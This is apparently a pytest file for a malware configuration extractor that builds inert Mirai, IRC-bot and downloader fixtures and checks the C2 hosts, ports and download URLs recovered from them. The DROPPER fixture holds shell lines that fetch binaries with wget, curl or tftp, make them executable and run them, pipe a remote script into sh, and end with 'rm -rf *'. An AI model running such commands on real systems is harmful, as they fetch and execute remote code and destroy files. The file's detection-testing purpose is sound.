"""Config extractors: harmless fixtures built here with the documented encodings (never a
real bot, never run), exact values; benign programs give no configuration.

Nothing is executed and nothing goes to the network: hosts are under example.com/net or
in the documentation ranges (198.51.100.0/24, 203.0.113.0/24).
"""

from __future__ import annotations

import struct
import time
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from maco.model import ExtractorModel  # type: ignore[import-untyped,unused-ignore]

from cleancenter.analyze import configs
from cleancenter.analyze.configs import (
    Context,
    Extractor,
    downloader,
    extract_configs,
    mirai,
    own_rule_hits,
)
from cleancenter.analyze.report import ConfigResult, YaraMatch
from cleancenter.demo import windows_launchers

# Junk that never reads as text: no printable byte, no NUL.
JUNK = bytes([*range(0x01, 0x09), *range(0x0E, 0x20), *range(0x80, 0x100)])
BUSYBOX = sorted(Path("/var/cache/cleancenter/material/busybox").glob("*/busybox"))
MIRAI_KEY = 0xDEADBEEF


def junk(n: int) -> bytes:
    return (JUNK * (n // len(JUNK) + 1))[:n]


def elf_header() -> bytes:
    """An ELF64 header with no program: parses as ELF by magic only, runs nowhere."""
    return b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(40)


def strings_blob(*texts: str, sep: bytes = b"\x00") -> bytes:
    return sep.join(t.encode() for t in texts) + sep


def validate(result: ConfigResult) -> ExtractorModel:
    return ExtractorModel.model_validate(result.config)


def only(results: list[ConfigResult], extractor: str) -> ConfigResult:
    found = [r for r in results if r.extractor == extractor]
    assert len(found) == 1, results
    return found[0]


# --- Mirai ----------------------------------------------------------------------------

def toggle_obf(plain: bytes, key: int = MIRAI_KEY) -> bytes:
    """Mirai's table.c: each byte XORed with k1, k2, k3, k4 (the key's bytes) in turn."""
    k = key.to_bytes(4, "little")
    out = bytearray(plain)
    for i in range(len(out)):
        for kb in k:
            out[i] ^= kb
    return bytes(out)


def mirai_string(text: str) -> bytes:
    """add_entry(id, "<encoded text and NUL>", len): the literal plus the compiler's NUL."""
    return toggle_obf(text.encode() + b"\x00") + b"\x00"


def mirai_port(port: int) -> bytes:
    return toggle_obf(struct.pack(">H", port)) + b"\x00"


def mirai_blob(cnc: str = "cnc.example.com", cnc_port: int = 23,
               report: str = "report.example.com", report_port: int = 48101) -> bytes:
    table = b"".join([
        mirai_string(cnc), mirai_port(cnc_port), b"\x00" * 3,
        mirai_string(report), mirai_port(report_port),
        mirai_string("listening tun0"), mirai_string("/proc/"), mirai_string("/exe"),
        mirai_string("/dev/watchdog"), mirai_string("/dev/misc/watchdog"),
    ])
    return elf_header() + junk(300) + b"\x00" + table + junk(200)


def test_mirai_encoding_is_xor_0x22() -> None:
    assert mirai.XOR_BYTE == 0x22
    assert toggle_obf(b"/proc/\x00") == bytes(b ^ 0x22 for b in b"/proc/\x00")
    assert mirai_port(23) == b"\x22\x35\x00"  # table.c: add_entry(TABLE_CNC_PORT, "\x22\x35")
    assert mirai_port(48101) == b"\x99\xc7\x00"
    assert toggle_obf(b"cnc.changeme.com\x00").startswith(b"\x41\x4c\x41\x0c\x41\x4a")


def test_mirai_table() -> None:
    data = mirai_blob()
    assert own_rule_hits(data) == ["cc_mirai_table"]
    results = extract_configs(data, yara=[], kind="elf")
    result = only(results, "mirai")
    assert result.family == "Mirai"
    model = validate(result)
    assert [(c.server_domain, c.server_port, c.usage) for c in model.tcp] == [
        ("cnc.example.com", 23, "c2"), ("report.example.com", 48101, "upload")]
    assert model.other["mirai"]["cnc"] == "cnc.example.com"
    assert model.other["mirai"]["report_port"] == 48101
    assert "/dev/watchdog" in model.decoded_strings
    assert "listening tun0" in model.decoded_strings
    assert model.encryption[0].key == "0xdeadbeef"


def test_mirai_ip_cnc_and_community_trigger() -> None:
    data = elf_header() + junk(64) + b"\x00" + mirai_string("198.51.100.23") + mirai_port(
        2323) + junk(50)
    assert own_rule_hits(data) == []  # no known table strings: our rule stays quiet
    assert extract_configs(data, yara=[], kind="elf") == []
    hit = YaraMatch(rule="ELF_Mirai_Generic", pack="community")
    model = validate(only(extract_configs(data, yara=[hit], kind="elf"), "mirai"))
    assert [(c.server_ip, c.server_port) for c in model.tcp] == [("198.51.100.23", 2323)]


def test_mirai_markers_without_host_give_nothing() -> None:
    data = elf_header() + junk(64) + b"\x00" + mirai_string("/proc/") + mirai_string(
        "/dev/watchdog") + junk(64)
    assert own_rule_hits(data) == ["cc_mirai_table"]
    assert extract_configs(data, yara=[], kind="elf") == []


# --- IRC ------------------------------------------------------------------------------

IRC_STRINGS = [
    "NICK %s\r\n", "USER %s localhost localhost :%s\r\n", "JOIN %s %s\r\n",
    "PRIVMSG %s :%s\r\n", "PONG %s\r\n", "PING",
    "irc.example.net", "6667", "#botnet", "s3cr3t", "bot-%d",
    "!download", "!udp", "!kill", "!version", "help me",
]


def irc_blob(strings: list[str] = IRC_STRINGS) -> bytes:
    return elf_header() + junk(100) + b"\x00" + strings_blob(*strings) + junk(100)


def test_irc_bot_config() -> None:
    data = irc_blob()
    assert "cc_irc_bot" in own_rule_hits(data)
    result = only(extract_configs(data, yara=[], kind="elf"), "irc")
    assert result.family == "IRCBot"
    model = validate(result)
    assert [(c.server_domain, c.server_port, c.usage) for c in model.tcp] == [
        ("irc.example.net", 6667, "c2")]
    assert model.password == ["s3cr3t"]
    assert model.other["irc"] == {
        "servers": [{"host": "irc.example.net", "port": 6667}],
        "channels": [{"name": "#botnet", "key": "s3cr3t"}],
        "nick_pattern": "bot-%d",
        "command_prefix": "!",
        "commands": ["download", "kill", "udp", "version"],
    }


def test_irc_host_port_and_literal_join() -> None:
    strings = ["NICK [%s]%d", "USER x 8 * :x", "JOIN #chan k3y", "PRIVMSG %s :%s",
               "198.51.100.9:7000", ".udp", ".syn", ".scan"]
    hit = YaraMatch(rule="Linux_Tsunami_Kaiten", pack="community")
    result = only(extract_configs(irc_blob(strings), yara=[hit], kind="elf"), "irc")
    assert result.family == "Tsunami"
    model = validate(result)
    assert [(c.server_ip, c.server_port) for c in model.tcp] == [("198.51.100.9", 7000)]
    irc = model.other["irc"]
    assert irc["channels"] == [{"name": "#chan", "key": "k3y"}]
    assert irc["nick_pattern"] == "[%s]%d"
    assert irc["command_prefix"] == "."
    assert irc["commands"] == ["scan", "syn", "udp"]


def test_gafgyt_prefix() -> None:
    strings = ["NICK %s", "USER %s 0 0 :%s", "JOIN %s", "PRIVMSG %s :%s", "#gaf",
               "!* TCP", "!* UDP", "!* SCANNER ON", "irc.example.org"]
    hit = YaraMatch(rule="Linux_Gafgyt_abc", pack="community")
    model = validate(only(extract_configs(irc_blob(strings), yara=[hit], kind="elf"), "irc"))
    assert model.family == "Gafgyt"
    assert model.other["irc"]["command_prefix"] == "!*"
    assert model.other["irc"]["channels"] == [{"name": "#gaf", "key": None}]
    assert model.other["irc"]["servers"] == [{"host": "irc.example.org", "port": None}]


def test_irc_protocol_without_config_gives_nothing() -> None:
    strings = ["NICK %s", "USER %s 0 0 :%s", "JOIN %s", "PRIVMSG %s :%s", "PING", "PONG"]
    data = irc_blob(strings)
    assert "cc_irc_bot" in own_rule_hits(data)
    assert extract_configs(data, yara=[], kind="elf") == []


# --- downloaders ----------------------------------------------------------------------

DROPPER = """#!/bin/sh
cd /tmp || cd /var/run || cd /dev/shm
wget http://198.51.100.7/bins/x86; chmod 777 x86; ./x86 selfrep
curl -O http://cdn.example.com/bins/arm7; chmod +x arm7; ./arm7
busybox tftp -g -r mips 198.51.100.7; chmod 777 mips; ./mips
/bin/busybox tftp 203.0.113.5 -c get sh4.sh
sh sh4.sh
wget -O /var/tmp/.d http://198.51.100.7/d; chmod +x /var/tmp/.d; /var/tmp/.d
curl -s http://dl.example.net/i.sh | sh
wget http://198.51.100.7/notrun.bin
rm -rf *
"""


def test_shell_dropper() -> None:
    data = DROPPER.encode()
    assert "cc_downloader" in own_rule_hits(data)
    result = only(extract_configs(data, yara=[], kind="script"), "downloader")
    assert result.family == "Downloader"
    model = validate(result)
    assert [h.uri for h in model.http] == [
        "http://198.51.100.7/bins/x86",
        "http://cdn.example.com/bins/arm7",
        "tftp://198.51.100.7/mips",
        "tftp://203.0.113.5/sh4.sh",
        "http://198.51.100.7/d",
        "http://dl.example.net/i.sh",
    ]
    assert all(h.usage == "download" for h in model.http)
    assert model.http[2].protocol == "tftp"
    assert model.http[1].hostname == "cdn.example.com"
    assert [p.path for p in model.paths] == [
        "/tmp/x86", "/tmp/arm7", "/tmp/mips", "/tmp/sh4.sh", "/var/tmp/.d"]
    assert model.category == ["downloader"]


def test_elf_downloader_strings_and_ftpget() -> None:
    strings = ["cd /tmp; busybox ftpget -u anonymous 198.51.100.8 x.bin pub/x.bin; "
               "chmod 755 x.bin; ./x.bin", "/bin/busybox wget http://%s/bins/%s -O z"]
    data = elf_header() + junk(100) + b"\x00" + strings_blob(*strings) + junk(50)
    model = validate(only(extract_configs(data, yara=[], kind="elf"), "downloader"))
    assert [(f.hostname, f.path, f.usage) for f in model.ftp] == [
        ("198.51.100.8", "/pub/x.bin", "download")]
    assert model.http == []
    assert [p.path for p in model.paths] == ["/tmp/x.bin"]


def test_fetch_without_run_gives_nothing() -> None:
    text = "wget http://198.51.100.7/file.tar.gz\ncurl -o out http://example.com/a\n"
    assert downloader.shell_downloads(text) == []
    hit = YaraMatch(rule="SUSP_Downloader", pack="community")
    assert extract_configs(text.encode(), yara=[hit], kind="script") == []


def pe_with_overlay(extra: list[str], wide: Sequence[str] = ()) -> bytes:
    base = windows_launchers()[0].read_bytes()
    return base + b"\x00" + strings_blob(*extra) + b"\x00\x00" + b"".join(
        w.encode("utf-16-le") + b"\x00\x00" for w in wide)


@pytest.mark.skipif(not windows_launchers(), reason="no pip/setuptools launchers")
def test_pe_download_and_run() -> None:
    data = pe_with_overlay(["URLDownloadToFileA", "urlmon.dll", "WinExec"],
                           wide=["http://198.51.100.7/payload.exe", "%TEMP%\\payload.exe"])
    assert "cc_downloader" in own_rule_hits(data)
    model = validate(only(extract_configs(data, yara=[], kind="pe"), "downloader"))
    assert [(h.uri, h.hostname, h.path, h.usage) for h in model.http] == [
        ("http://198.51.100.7/payload.exe", "198.51.100.7", "/payload.exe", "download")]
    assert [p.path for p in model.paths] == ["%TEMP%\\payload.exe"]
    assert model.other["downloader"]["methods"] == ["URLDownloadToFile"]


@pytest.mark.skipif(not windows_launchers(), reason="no pip/setuptools launchers")
def test_pe_api_without_url_or_run_gives_nothing() -> None:
    no_url = pe_with_overlay(["URLDownloadToFileW", "ShellExecuteW"])
    assert extract_configs(no_url, yara=[], kind="pe") == []
    no_fetch = pe_with_overlay(["ShellExecuteW", "http://198.51.100.7/a.exe"])
    assert "cc_downloader" not in own_rule_hits(no_fetch)
    hit = YaraMatch(rule="Win_Downloader_Generic", pack="community")
    assert extract_configs(no_fetch, yara=[hit], kind="pe") == []


# --- dispatch ---------------------------------------------------------------------------

def test_failing_extractor_is_skipped() -> None:
    def boom(ctx: Context) -> Any:
        raise RuntimeError("hostile")

    calls: list[str] = []

    def ok(ctx: Context) -> ExtractorModel:
        calls.append(ctx.kind)
        return ExtractorModel(family="X")

    exs = [Extractor("boom", ("cc_irc_bot",), (), boom),
           Extractor("ok", (), ("*something*",), ok)]
    hit = YaraMatch(rule="Win_Something_X", pack="p")
    results = extract_configs(irc_blob(), yara=[hit], kind="elf", extractors=exs)
    assert [(r.extractor, r.family, r.config) for r in results] == [("ok", "X", {"family": "X"})]
    assert calls == ["elf"]


def test_not_triggered_not_run() -> None:
    assert extract_configs(DROPPER.encode(), yara=[], kind="script",
                           extractors=[e for e in configs.EXTRACTORS
                                       if e.name != "downloader"]) == []


def test_hostile_inputs_never_raise() -> None:
    for data in (b"", b"\x22\x00" * 1000, b"NICK JOIN PRIVMSG USER " * 50,
                 b"wget http://[::1 | sh; chmod 777 ] ./x\n" * 20, b"MZ" + bytes(100)):
        hits = [YaraMatch(rule=r, pack="p") for r in ("Mirai", "Tsunami", "Downloader")]
        assert isinstance(extract_configs(data, yara=hits, kind="data"), list)


# --- benign files -----------------------------------------------------------------------

def _benign() -> list[Path]:
    files = [Path("/usr/bin/ls"), Path("/usr/bin/busybox"), *BUSYBOX, *windows_launchers()]
    return [p for p in files if p.is_file()]


@pytest.mark.parametrize("path", _benign(), ids=str)
def test_benign_files_have_no_config(path: Path) -> None:
    data = path.read_bytes()
    kind = "pe" if data[:2] == b"MZ" else "elf"
    # even when every extractor is forced by a community hit
    hits = [YaraMatch(rule=r, pack="p") for r in ("Mirai", "Tsunami", "Downloader")]
    assert extract_configs(data, yara=hits, kind=kind) == []
    assert extract_configs(data, yara=[], kind=kind) == []


def test_usr_bin_no_config_and_fast() -> None:
    files = sorted(p for p in Path("/usr/bin").iterdir() if p.is_file())[:200]
    files = [p for p in files if p.stat().st_size < 20 * 1024 * 1024][:50]
    total = 0.0
    for p in files:
        data = p.read_bytes()
        start = time.perf_counter()
        results = extract_configs(data, yara=[], kind="elf")
        total += time.perf_counter() - start
        assert results == [], p
    assert total / max(1, len(files)) < 0.05  # seconds per file, generous for slow CI
